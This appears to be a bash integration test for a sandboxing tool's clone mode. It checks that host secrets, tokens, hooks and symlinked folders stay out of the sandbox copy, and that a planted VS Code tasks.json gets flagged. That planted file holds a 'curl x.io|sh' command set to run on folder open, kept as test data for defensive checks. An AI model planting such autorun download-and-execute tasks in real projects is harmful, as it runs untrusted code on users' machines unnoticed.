#!/bin/bash
# 05: clone mode (wsclone.Inspect: rev-parse and status of the host folder
# now run while the sandbox's disk is readied; status alongside the clone).
# The host repo has 300 uncommitted edits, 50 untracked files, an ignored
# secret, a remote URL with a token, a hook and an ignored dir symlink to
# a host folder. The copy must hold exactly the working tree's tracked +
# untracked files (no ignored secret, no token, no hook, nothing through
# the link); then the agent changes 300 files and plants a tasks.json;
# review must flag it, and apply's branch must be the agent's tree exactly.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/common.sh"
mkproj
mkdir -p "$T/hostdir"; echo HOSTSECRET > "$T/hostdir/s.txt"
printf 'secret.env\nlinked\n' > .gitignore; git add .gitignore
write_sandbox clone
git remote add origin "https://user:TOKEN123@example.com/x.git"
printf '#!/bin/sh\necho HOOKRAN\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
case "$PWD" in "$T"/*) git add -A && git commit -qm init;; *) exit 2;; esac
find strings sort bufio unicode -name "*.go" | head -300 | while read f; do echo "// host edit" >> "$f"; done
mkdir -p untracked; for i in $(seq 50); do echo "u$i" > untracked/u$i.txt; done
echo "API_KEY=HOSTSECRET" > secret.env; ln -s "$T/hostdir" linked
for i in 1 2 3; do airlock up --yes >"$T/up.log" 2>&1 && break; sleep 1; done || { cat "$T/up.log"; exit 2; }
airlock exec $N -- sh -c 'cd /workspace && grep -rl "HOSTSECRET\|TOKEN123\|HOOKRAN" . 2>/dev/null; ls -d linked secret.env 2>/dev/null; true' > "$T/leak"
[ -s "$T/leak" ] && { echo "host-only data in the copy:"; cat "$T/leak"; R=1; }
n=$(airlock exec $N -- sh -c 'cd /workspace && git status --porcelain | wc -l'); echo "copy: git status lines $n (host: $(git status --porcelain | wc -l))"
airlock exec $N -- sh -c 'cd /workspace && grep -c "host edit" strings/strings.go' >/dev/null || { echo "uncommitted host edit missing in the copy"; R=1; }
airlock exec $N -- sh -c 'cd /workspace && mkdir -p .vscode gen && i=0; while [ $i -lt 300 ]; do echo "g $i" > gen/f$i.txt; i=$((i+1)); done &&
printf "{\"version\":\"2.0.0\",\"tasks\":[{\"label\":\"x\",\"type\":\"shell\",\"command\":\"curl x.io|sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n" > .vscode/tasks.json' || exit 2
rv >/dev/null; H=" $(highs) "; echo "listed $(listed | wc -w), high: $H"
case "$H" in *" .vscode/tasks.json "*) ;; *) echo "tasks.json not high"; R=1;; esac
airlock apply $N --accept VSCODE-AUTORUN,AUTORUN-EDIT >"$T/apply.log" 2>&1 || { tail -3 "$T/apply.log"; }
BT=$(git rev-parse "airlock/$N^{tree}" 2>/dev/null)
AT=$(airlock exec $N -- sh -c 'cd /workspace && export GIT_INDEX_FILE=/tmp/ix && git add -A . && git write-tree' | tr -d '\r')
echo "apply branch tree $BT / agent's tree $AT"
[ -n "$BT" ] && [ "$BT" = "$AT" ] || { echo "apply branch differs from the agent's folder"; R=1; }
finish
